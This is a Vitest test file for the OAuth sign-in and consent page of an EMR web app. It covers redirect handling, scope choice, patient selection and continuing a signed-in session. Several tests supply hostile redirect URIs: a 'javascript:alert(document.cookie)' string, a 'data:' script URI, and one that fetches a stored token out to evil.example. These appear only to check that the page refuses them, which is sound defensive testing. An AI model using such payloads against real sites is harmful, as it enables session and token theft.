import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { fakeJwt, jsonResponse } from '../../data-provider/client/fakeFetch';
import { OAuthPage, redirectWithCode, thirdPartyRequest } from './OAuthPage';
import { fakeServer, refusal, renderAt, sentJson, server } from './signInTestSupport';

const authorize =
  '/oauth?response_type=code&client_id=app-7&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&scope=openid%20patient%2F*.read%20launch&state=st-1&code_challenge=CH&code_challenge_method=S256';

/** The email and password steps of /oauth, as a person types them. */
async function signInWithPassword(user: ReturnType<typeof userEvent.setup>): Promise<void> {
  await user.type(screen.getByLabelText(/Email/), 'alice@demo.example');
  await user.click(screen.getByRole('button', { name: 'Next' }));
  await user.type(await screen.findByLabelText(/Password/), 'pw');
  await user.click(screen.getByRole('button', { name: 'Sign in' }));
}

describe('OAuthPage (/oauth)', { timeout: 20_000 }, () => {
  it('reads the authorize request and builds the answer address with code and state', () => {
    const request = thirdPartyRequest(authorize.slice('/oauth'.length));
    expect(request).toMatchObject({ clientId: 'app-7', redirectUri: 'https://app.example/cb', state: 'st-1' });
    expect(redirectWithCode(request!, 'c 1')).toBe('https://app.example/cb?code=c+1&state=st-1');
    expect(thirdPartyRequest('?client_id=x')).toBeUndefined();
  });

  it('never sends the browser to a javascript:, data: or plain-http address', () => {
    for (const address of [
      'javascript:alert(document.cookie)',
      'data:text/html,<script>1</script>',
      'http://app.example/cb',
    ]) {
      expect(() => redirectWithCode({ clientId: 'a', redirectUri: address }, 'c')).toThrow(/Redirect URI/);
    }
    expect(redirectWithCode({ clientId: 'a', redirectUri: 'http://127.0.0.1:9/cb' }, 'c')).toBe(
      'http://127.0.0.1:9/cb?code=c',
    );
  });

  it('refuses a link whose redirect_uri runs script, before anyone signs in', async () => {
    const { fake, client } = fakeServer();
    const redirect = vi.fn();
    const link = `/oauth?response_type=code&client_id=app-7&redirect_uri=${encodeURIComponent('javascript:fetch("//evil.example/?"+localStorage.getItem("token"))')}&state=s`;
    renderAt(<OAuthPage client={client} redirect={redirect} />, link);
    expect(
      screen.getByText(/This sign-in link is not valid: Redirect URI scheme "javascript:" is not allowed: use https/),
    ).toBeInTheDocument();
    expect(screen.queryByLabelText(/Email/)).not.toBeInTheDocument();
    expect(redirect).not.toHaveBeenCalled();
    expect(fake.callsTo('POST', /auth\/login/)).toHaveLength(0);
  });

  it('says an incomplete link is incomplete', () => {
    const { client } = fakeServer();
    renderAt(<OAuthPage client={client} redirect={vi.fn()} />, '/oauth?client_id=x');
    expect(screen.getByText(/This sign-in link is incomplete/)).toBeInTheDocument();
  });

  it("signs in with the app's client id and challenge, asks for scopes, then returns code and state to the app", async () => {
    const { fake, client } = fakeServer();
    const redirect = vi.fn();
    fake.on('POST', `${server}auth/method`, jsonResponse({ method: 'password' }));
    fake.on('POST', `${server}auth/login`, jsonResponse({ login: 'l1', scopes: ['patient/*.read', 'launch'] }));
    fake.on('POST', `${server}auth/scope`, jsonResponse({ login: 'l1', code: 'app-code' }));
    fake.on('GET', `${server}auth/clientinfo/app-7`, jsonResponse({ id: 'app-7', name: 'Growth charts' }));
    renderAt(<OAuthPage client={client} redirect={redirect} />, authorize);
    expect(
      await screen.findByText('Growth charts asks to use your Hearth EMR account. Sign in to continue.'),
    ).toBeInTheDocument();
    const user = userEvent.setup({ delay: null });
    await signInWithPassword(user);
    expect(await screen.findByRole('heading', { name: 'Choose scope' })).toBeInTheDocument();
    expect(screen.getByText(/^Growth charts asks for this access/)).toBeInTheDocument();
    expect(screen.getByRole('heading', { level: 1 })).toHaveTextContent('Allow Growth charts');
    // Each scope in words, with the scope itself.
    expect(
      screen.getByLabelText('Read and search all records of the patient it is about patient/*.read'),
    ).toBeChecked();
    await user.click(screen.getByLabelText(/^Know which patient \(and visit\) is open in the chart launch$/));
    await user.click(screen.getByRole('button', { name: 'Set scope' }));
    await waitFor(() => expect(redirect).toHaveBeenCalledWith('https://app.example/cb?code=app-code&state=st-1'));
    expect(sentJson(fake.callsTo('POST', /auth\/login/)[0])).toMatchObject({
      clientId: 'app-7',
      redirectUri: 'https://app.example/cb',
      codeChallenge: 'CH',
      codeChallengeMethod: 'S256',
      scope: 'openid patient/*.read launch',
    });
    expect(sentJson(fake.callsTo('POST', /auth\/scope/)[0])).toEqual({ login: 'l1', scope: 'patient/*.read' });
    // The app exchanges its code itself: this page never calls the token endpoint.
    expect(fake.callsTo('POST', /oauth2\/token/)).toHaveLength(0);
  });

  it("asks a clinician's standalone launch which patient, among those the server lists", async () => {
    const { fake, client } = fakeServer();
    const redirect = vi.fn();
    fake.on('POST', `${server}auth/method`, jsonResponse({ method: 'password' }));
    fake.on(
      'POST',
      `${server}auth/login`,
      jsonResponse({ login: 'l3', scopes: ['launch/patient', 'patient/*.read'], patientChoice: true }),
    );
    fake.on(
      'GET',
      /auth\/login\/l3\/patients\?text=/,
      jsonResponse({ patients: [{ id: 'p9', name: 'Nora Quillfeather', birthDate: '1980-02-03', gender: 'female' }] }),
    );
    fake.on('POST', `${server}auth/scope`, jsonResponse({ login: 'l3', code: 'standalone-code' }));
    renderAt(<OAuthPage client={client} redirect={redirect} />, authorize);
    const user = userEvent.setup({ delay: null });
    await signInWithPassword(user);
    expect(await screen.findByRole('heading', { name: 'Choose scope' })).toBeInTheDocument();
    // What the field searches by is said under it, until an error takes its place.
    expect(screen.getByText('Search by name, birth date (YYYY-MM-DD) or record number')).toBeInTheDocument();

    // Nothing chosen: said under the field, nothing sent.
    await user.click(screen.getByRole('button', { name: 'Set scope' }));
    expect(await screen.findByText('Choose the patient the application is about')).toBeInTheDocument();
    expect(fake.callsTo('POST', /auth\/scope/)).toHaveLength(0);

    // Unticking launch/patient takes the question away; ticking it brings it back.
    await user.click(screen.getByLabelText(/launch\/patient$/));
    expect(screen.queryByRole('combobox', { name: /Patient/ })).not.toBeInTheDocument();
    await user.click(screen.getByLabelText(/launch\/patient$/));
    await user.type(screen.getByRole('combobox', { name: /Patient/ }), 'Nora');
    await user.click(await screen.findByRole('option', { name: /Nora Quillfeather · born .*1980 · female/ }));
    await user.click(screen.getByRole('button', { name: 'Set scope' }));
    await waitFor(() =>
      expect(redirect).toHaveBeenCalledWith('https://app.example/cb?code=standalone-code&state=st-1'),
    );
    expect(sentJson(fake.callsTo('POST', /auth\/scope/)[0])).toEqual({
      login: 'l3',
      scope: 'launch/patient patient/*.read',
      patient: 'p9',
    });
    const searched = fake.callsTo('GET', /patients\?text=/).map((call) => new URL(call.url).searchParams.get('text'));
    expect(searched).toContain('Nora');
  });

  describe('when someone is signed in to Hearth EMR in this browser', () => {
    const launchLink = `${authorize}&launch=L-9`;

    function signedInServer(me: Response = jsonResponse(aliceSession)) {
      const { fake, client } = fakeServer(undefined, me);
      // The launch is the signed-in person's own (the chart they use started it): theirs to continue into.
      fake.on('GET', `${server}auth/continue/launch/L-9`, jsonResponse({ usable: true }));
      const token = fakeJwt({ exp: Math.floor(Date.now() / 1000) + 3600 });
      client.setAccessToken(token);
      return { fake, client, token };
    }

    const aliceSession = {
      user: { resourceType: 'User', id: 'u1', email: 'alice@demo.example' },
      profile: { resourceType: 'Practitioner', id: 'dr1', name: [{ given: ['Alice'], family: 'Carter' }] },
      project: { resourceType: 'Project', id: 'p1', name: 'Demo Clinic' },
      membership: { resourceType: 'ProjectMembership', id: 'm1' },
    };

    it('continues as that person with one click: no password, the consent step, then the code to the app', async () => {
      const { fake, client, token } = signedInServer();
      const redirect = vi.fn();
      fake.on('POST', `${server}auth/continue`, jsonResponse({ login: 'l2', scopes: ['patient/*.read', 'launch'] }));
      fake.on('POST', `${server}auth/scope`, jsonResponse({ login: 'l2', code: 'continued-code' }));
      renderAt(<OAuthPage client={client} redirect={redirect} />, launchLink);
      expect(await screen.findByText('Demo Clinic')).toBeInTheDocument();
      expect(screen.getByText('alice@demo.example')).toBeInTheDocument();
      expect(screen.queryByLabelText(/Email/)).not.toBeInTheDocument();
      const user = userEvent.setup({ delay: null });
      await user.click(screen.getByRole('button', { name: /^Continue as Alice Carter/ }));
      expect(await screen.findByRole('heading', { name: 'Choose scope' })).toBeInTheDocument();
      await user.click(screen.getByRole('button', { name: 'Set scope' }));
      await waitFor(() =>
        expect(redirect).toHaveBeenCalledWith('https://app.example/cb?code=continued-code&state=st-1'),
      );
      const [sent] = fake.callsTo('POST', /auth\/continue/);
      expect(sentJson(sent!)).toEqual({
        clientId: 'app-7',
        redirectUri: 'https://app.example/cb',
        scope: 'openid patient/*.read launch',
        codeChallenge: 'CH',
        codeChallengeMethod: 'S256',
        launch: 'L-9',
      });
      // happy-dom's Headers keeps the header's case as the client wrote it.
      expect(sent!.headers.Authorization).toBe(`Bearer ${token}`);
      expect(fake.callsTo('POST', /auth\/login/)).toHaveLength(0);
    });

    it('offers another account instead, with the ordinary sign-in', async () => {
      const { fake, client } = signedInServer();
      renderAt(<OAuthPage client={client} redirect={vi.fn()} />, launchLink);
      const user = userEvent.setup({ delay: null });
      await user.click(await screen.findByRole('button', { name: 'Use another account' }));
      expect(screen.getByLabelText(/Email/)).toBeInTheDocument();
      expect(fake.callsTo('POST', /auth\/continue/)).toHaveLength(0);
    });

    it("shows the server's refusal and keeps the choice of another account", async () => {
      const { fake, client } = signedInServer();
      const redirect = vi.fn();
      fake.on(
        'POST',
        `${server}auth/continue`,
        refusal('This application belongs to a project you are not a member of', undefined, 403),
      );
      renderAt(<OAuthPage client={client} redirect={redirect} />, launchLink);
      const user = userEvent.setup({ delay: null });
      await user.click(await screen.findByRole('button', { name: /^Continue as Alice Carter/ }));
      expect(
        await screen.findByText('Alice Carter: This application belongs to a project you are not a member of'),
      ).toBeInTheDocument();
      expect(screen.getByRole('button', { name: 'Use another account' })).toBeEnabled();
      expect(redirect).not.toHaveBeenCalled();
    });

    it('asks for credentials, not "Continue as", when the app sends prompt=login', async () => {
      const { fake, client } = signedInServer();
      renderAt(<OAuthPage client={client} redirect={vi.fn()} />, `${launchLink}&prompt=login`);
      expect(await screen.findByLabelText(/Email/)).toBeInTheDocument();
      expect(screen.queryByRole('button', { name: /Continue as/ })).not.toBeInTheDocument();
      expect(fake.callsTo('POST', /auth\/continue/)).toHaveLength(0);
    });

    it('asks for credentials when the stored session has ended', async () => {
      const { client } = signedInServer(refusal('Unauthorized', undefined, 401));
      renderAt(<OAuthPage client={client} redirect={vi.fn()} />, launchLink);
      expect(await screen.findByLabelText(/Email/)).toBeInTheDocument();
      expect(screen.queryByRole('button', { name: /Continue as/ })).not.toBeInTheDocument();
    });
  });
});
